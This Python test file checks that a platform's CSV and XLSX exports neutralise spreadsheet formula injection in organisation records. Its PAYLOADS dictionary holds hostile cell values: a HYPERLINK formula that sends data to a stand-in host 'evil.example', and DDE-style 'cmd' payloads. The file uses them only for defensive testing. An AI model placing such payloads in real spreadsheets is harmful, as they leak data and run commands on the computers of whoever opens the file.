"""Spreadsheet formula injection: every CSV and XLSX the platform writes neutralises formula-like text."""

import csv
import io
from decimal import Decimal
from typing import Any

from httpx import AsyncClient
from openpyxl import Workbook, load_workbook
from sqlalchemy import text
from sqlalchemy.ext.asyncio import AsyncSession

from api.spreadsheets import FORMULA_PREFIXES, cell_text, restore, xlsx_value

# What an attacker would put in a name or an address (OWASP's examples and a bypass of "+/- then a digit").
PAYLOADS = {
    "name": '=HYPERLINK("https://evil.example/?"&B2,"Click")',
    "locality": "@SUM(1+1)*cmd|' /C calc'!A0",
    "address": "-2+3+cmd|' /C calc'!A0",
    "legal_form": "+SRL",
    "phone": "+40 264 000 000",
}


async def _poison(session: AsyncSession) -> int:
    """A published member of the demo cluster whose text fields all start like formulas."""
    org_id = int(await session.scalar(text(
        "SELECT o.id FROM organisations o JOIN memberships m ON m.organisation_id = o.id "
        "WHERE o.status = 'published' AND o.country = 'RO' ORDER BY o.id LIMIT 1")))
    await session.execute(text(
        "UPDATE organisations SET name = :name, locality = :locality, address = :address, legal_form = :legal_form, "
        "phone = :phone, description = jsonb_build_object('en', '=1+2') WHERE id = :id"),
        {**PAYLOADS, "id": org_id})
    await session.commit()
    return org_id


def _assert_csv_neutralised(body: str, org_id: int) -> dict[str, str]:
    rows = list(csv.DictReader(io.StringIO(body)))
    assert rows, body[:500]
    for row in rows:
        for value in row.values():
            assert not value.startswith(FORMULA_PREFIXES), (row, value)
    poisoned = next(row for row in rows if row.get("id") == str(org_id) or row.get("name", "").startswith("'=HYP"))
    assert poisoned["name"] == "'" + PAYLOADS["name"]
    assert poisoned["address"] == "'" + PAYLOADS["address"]
    return poisoned


async def test_enterprise_csv_export_neutralises_formulas(client: AsyncClient, session: AsyncSession,
                                                         admin_headers: dict[str, str]) -> None:
    org_id = await _poison(session)
    r = await client.get("/api/v1/exports/enterprises.csv", params={"country": "RO"}, headers=admin_headers)
    assert r.status_code == 200
    row = _assert_csv_neutralised(r.text, org_id)
    assert row["phone"] == "'+40 264 000 000" and row["description_en"] == "'=1+2"


async def test_enterprise_list_csv_neutralises_formulas(client: AsyncClient, session: AsyncSession) -> None:
    org_id = await _poison(session)
    r = await client.get("/api/v1/enterprises", params={"format": "csv", "country": "RO", "limit": 200})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    _assert_csv_neutralised(r.text, org_id)


async def test_members_csv_neutralises_formulas(client: AsyncClient, session: AsyncSession,
                                                admin_headers: dict[str, str]) -> None:
    org_id = await _poison(session)
    r = await client.get("/api/v1/members", params={"format": "csv", "limit": 200}, headers=admin_headers)
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert all(not v.startswith(FORMULA_PREFIXES) for row in rows for v in row.values())
    poisoned = next(row for row in rows if row["slug"] and row["name"].startswith("'="))
    assert poisoned["name"] == "'" + PAYLOADS["name"] and org_id


async def test_xlsx_export_has_no_formula_cell(client: AsyncClient, session: AsyncSession,
                                               admin_headers: dict[str, str]) -> None:
    org_id = await _poison(session)
    r = await client.get("/api/v1/exports/enterprises.xlsx", params={"country": "RO"}, headers=admin_headers)
    assert r.status_code == 200
    sheet = load_workbook(io.BytesIO(r.content)).worksheets[0]  # not read-only: data_type is the file's own
    header = [c.value for c in sheet[1]]
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value is not None]
    assert cells and all(c.data_type != "f" for c in cells)
    assert all(not c.value.startswith(FORMULA_PREFIXES) for c in cells if isinstance(c.value, str))
    poisoned = next(row for row in sheet.iter_rows(min_row=2, values_only=True)
                    if row[header.index("id")] == org_id)
    assert poisoned[header.index("name")] == "'" + PAYLOADS["name"]
    assert isinstance(poisoned[header.index("lat")], float)  # numbers stay numbers


async def test_a_neutralised_export_reimports_unchanged(client: AsyncClient, session: AsyncSession,
                                                        admin_headers: dict[str, str]) -> None:
    org_id = await _poison(session)
    for suffix in ("csv", "xlsx"):
        exported = await client.get(f"/api/v1/exports/enterprises.{suffix}", params={"country": "RO"},
                                    headers=admin_headers)
        r = await client.post("/api/v1/admin/imports", files={"file": (f"ro.{suffix}", exported.content, "x")},
                              headers=admin_headers)
        assert r.status_code == 200, r.text[:2000]
        assert (r.json()["updated"], r.json()["rejected"]) == (0, 0), r.json()["problems"][:3]
    name = await session.scalar(text("SELECT name FROM organisations WHERE id = :id"), {"id": org_id})
    assert name == PAYLOADS["name"]


async def test_the_import_template_is_written_through_the_same_rule(client: AsyncClient,
                                                                    admin_headers: dict[str, str]) -> None:
    r = await client.get("/api/v1/admin/imports/template.csv", headers=admin_headers)
    rows = list(csv.reader(io.StringIO(r.text)))
    assert len(rows) > 1 and all(not v.startswith(FORMULA_PREFIXES) for row in rows for v in row)
    phone = rows[1][rows[0].index("phone")]
    assert phone == "'+40 264 000 000" and restore(phone) == "+40 264 000 000"


def test_only_text_is_neutralised_numbers_stay_numbers() -> None:
    assert cell_text("-5") == "'-5" and cell_text("=A1") == "'=A1" and cell_text("@x") == "'@x"
    assert cell_text("\rX") == "'\rX" and cell_text("plain") == "plain" and cell_text("'quoted") == "'quoted"
    assert cell_text(Decimal("-5.50")) == "-5.50" and cell_text(-3) == "-3" and cell_text(-1.5) == "-1.5"
    assert cell_text(["-a", "b"]) == "'-a;b" and cell_text(True) == "true" and cell_text(None) == ""
    for value in ("=1+1", "-x", "+y", "@z", "plain", "'=kept"):
        assert restore(cell_text(value)) == value
    sheet: Any = Workbook(write_only=True).create_sheet()
    assert xlsx_value(sheet, Decimal("-5")) == Decimal("-5") and xlsx_value(sheet, -2) == -2
    assert xlsx_value(sheet, "=1+1") == "'=1+1"
    assert xlsx_value(sheet, "#N/A").data_type == "s"
